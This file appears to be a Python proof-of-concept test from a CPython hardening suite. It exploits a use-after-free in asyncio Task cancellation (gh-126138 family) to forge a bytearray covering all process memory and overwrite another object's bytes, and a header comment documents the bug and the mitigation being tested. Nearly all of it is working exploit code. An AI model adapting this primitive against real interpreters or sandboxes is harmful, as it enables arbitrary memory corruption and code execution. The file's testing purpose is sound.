# family: wall (memory: an asyncio Task's cancel message freed by Future.cancel applied to the task during its step)   goal: memory   interpreter: /usr/bin/python3
# A sibling of X81 and X88 (the twelfth round's ok_01, gh-126138): the same borrowed
# message, freed through a third door. The task is cancelled with V (an 80-byte GC block the
# task alone holds); its step awaits a Future-compatible object and, the task being
# cancelled, calls result.cancel(task_cancel_msg) with the message BORROWED. The
# lookup of "cancel" runs the object's __getattribute__, which calls
# asyncio.Future.cancel(task, "x") (Future's own cancel on the task: it replaces
# the same field, the task's being Future's): V is freed, bytearray(FAKE) takes its block back (a fake PyByteArrayObject of 2**62
# bytes at address 0), and the C step hands the dangling message to the program's
# cancel: a bytearray over all memory, through which another object's bytes are
# written. Plain python3 (the image's 3.11.2): MEMORY-OVERWRITTEN. The wall: every
# cancel message given to cancel() or the setter is kept for the run (keep_args,
# keep_set); V is never freed.
import asyncio
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
got = []
steps = []
class Loop:
    def get_debug(self):
        return False
    def call_soon(self, fn, *args, **kw):
        steps.append(fn)
class FL:
    _asyncio_future_blocking = True
    def get_loop(self):
        return loop
    def add_done_callback(self, cb, context=None):
        pass
    def __await__(self):
        yield self
    def __getattribute__(self, name):
        if name == "cancel":
            asyncio.Future.cancel(task, "x")   # the task's only reference to V: freed
            keep.append(bytearray(FAKE))
            return lambda msg=None: got.append(msg)
        return object.__getattribute__(self, name)
async def main():
    task.cancel(V())
    await FL()
loop = Loop()
task = asyncio.Task(main(), loop=loop)
steps.pop(0)()
mem = got[0]
print(type(mem).__name__, hex(len(mem)), flush=True)
target = bytearray(b"AAAAAAAA")
start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")
mem[start] = 0x42
if target[0] == 0x42:
    print("MEMORY-OVERWRITTEN", bytes(target))
